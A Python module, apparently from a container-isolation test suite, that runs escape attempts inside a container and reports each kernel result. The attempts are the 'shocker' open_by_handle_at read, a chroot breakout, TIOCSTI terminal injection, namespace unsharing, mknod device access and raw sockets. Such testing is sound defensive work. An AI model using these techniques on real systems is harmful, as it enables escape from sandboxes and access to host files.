"""Attacks as a program in a container mounts them: this file is packed into the attacker's image and imports nothing of ours there.

Every attack says in one word what came of it: ``ok``, or the kernel's error by its name.
"""

import ctypes
import errno
import fcntl
import glob  # noqa: F401  for the tests' words
import os
import shutil
import socket
import struct
import tempfile
from collections.abc import Callable, Mapping

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS: dict[str, int] = {}
"""System calls by name; filled by ``main``."""

CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x20000, 0x2000000, 0x10000000
MS_REMOUNT, MS_BIND = 32, 4096
_TIOCSTI = 0x5412


def call(name: str, *arguments: object) -> str:
    """A system call; integers and bytes as they are, None for a null pointer."""
    return attempt(lambda: number_of(name, *arguments))


def number_of(name: str, *arguments: object) -> int:
    """What the call returns. Raises OSError."""
    result = libc.syscall(
        ctypes.c_long(NUMBERS[name]), *(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments)
    )
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    if result == 0 and name in {"clone", "clone3"}:
        os._exit(0)  # the child, if there comes to be one
    return int(result)


def attempt(action: Callable[[], object]) -> str:
    """How the action ended; a string it returns is its own word for that."""
    try:
        result = action()
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    return result if isinstance(result, str) else "ok"


def open_writable(path: str) -> str:
    """Open for writing; nothing is written."""
    return attempt(lambda: os.close(os.open(path, os.O_WRONLY)))


def read_some(path: str) -> str:
    """``empty``, ``data``, or the error."""

    def read() -> str:
        if os.path.isdir(path):
            return "data" if os.listdir(path) else "empty"
        with open(path, "rb") as file:
            return "data" if file.read(1) else "empty"

    return attempt(read)


def make_and_open(kind: int, major: int, minor: int) -> str:
    """What making a device of these numbers said, and opening it."""
    path = f"{tempfile.mkdtemp()}/device"
    made = attempt(lambda: os.mknod(path, kind | 0o666, os.makedev(major, minor)))
    opened = attempt(lambda: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)))
    shutil.rmtree(os.path.dirname(path))
    return f"{made} {opened}"


def mount(source: str, target: str, fstype: str, flags: int = 0, data: str = "") -> str:
    return call("mount", source.encode(), target.encode(), fstype.encode(), flags, data.encode())


def as_own_root(action: Callable[[], str]) -> str:
    """The same as root of a new user namespace, with mounts and control groups of its own: how most ways out of the last years began."""
    return f"{call('unshare', CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)} {action()}"


def read_by_handle(kind: int, handle: bytes, somewhere: str = "/") -> str:
    """The "shocker": a file by its number, of the filesystem that ``somewhere`` is on, whatever the root is."""
    packed = struct.pack("Ii", len(handle), kind) + handle
    root = os.open(somewhere, os.O_RDONLY)

    def read() -> str:
        with open(number_of("open_by_handle_at", root, packed, os.O_RDONLY), "rb") as file:
            return file.read().decode()

    return attempt(read)


def climb_out_of_chroots() -> str:
    """Two roots, one left open, and up as far as it goes: ``inside`` where that ends in the image, else what is seen there."""
    os.makedirs("/tmp/a", exist_ok=True)
    start = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/a")
    os.fchdir(start)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return "inside" if os.path.exists("/attack/inside.py") else " ".join(os.listdir("/"))


def push_into(path: str) -> str:
    """Put a character into a terminal's input as if it were typed (TIOCSTI)."""
    return attempt(lambda: fcntl.ioctl(os.open(path, os.O_RDWR), _TIOCSTI, b"x"))


def connect_abstract(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        return attempt(lambda: client.connect(f"\0{name}"))


def open_socket(family: int, kind: int = socket.SOCK_RAW) -> str:
    return attempt(lambda: socket.socket(family, kind).close())


def main(expressions: Mapping[str, str], numbers: Mapping[str, int]) -> None:
    """Evaluate each expression in a process of its own; print ``name: word``."""
    NUMBERS.update(numbers)
    for name, expression in expressions.items():
        pid = os.fork()
        if pid == 0:
            print(f"{name}: {eval(expression)}", flush=True)
            os._exit(0)
        os.waitpid(pid, 0)
